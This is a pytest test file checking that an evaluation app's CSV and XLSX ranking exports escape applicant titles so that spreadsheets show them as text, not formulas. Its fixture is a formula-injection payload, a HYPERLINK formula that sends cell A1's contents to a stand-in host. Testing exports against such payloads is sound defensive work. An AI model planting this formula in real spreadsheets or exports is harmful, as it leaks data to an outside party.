"""The committee's ranking (CSV and XLSX) writes applicant titles as text, never as formulas."""

import csv
import io

import pytest
from openpyxl import load_workbook

from evaluacion import exports

FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Ver detalle")'


@pytest.mark.parametrize("identified", [True, False])
def test_ranking_exports_defuse_formula_titles(competition, identified):
    c = competition
    c.other.title = FORMULA
    c.other.save(update_fields=["title"])

    rows = list(
        csv.reader(io.StringIO(exports.ranking_csv(c.call, identified=identified).decode("utf-8-sig")))
    )
    sheet = load_workbook(io.BytesIO(exports.ranking_xlsx(c.call, identified=identified))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]

    for value in [value for row in rows[1:] for value in row] + [cell.value for cell in cells]:
        if isinstance(value, str) and value:
            assert not value.lstrip().startswith(("=", "+", "@")), value
    assert all(cell.data_type != "f" for cell in cells)
    if identified:
        assert any(value == "'" + FORMULA for row in rows for value in row)
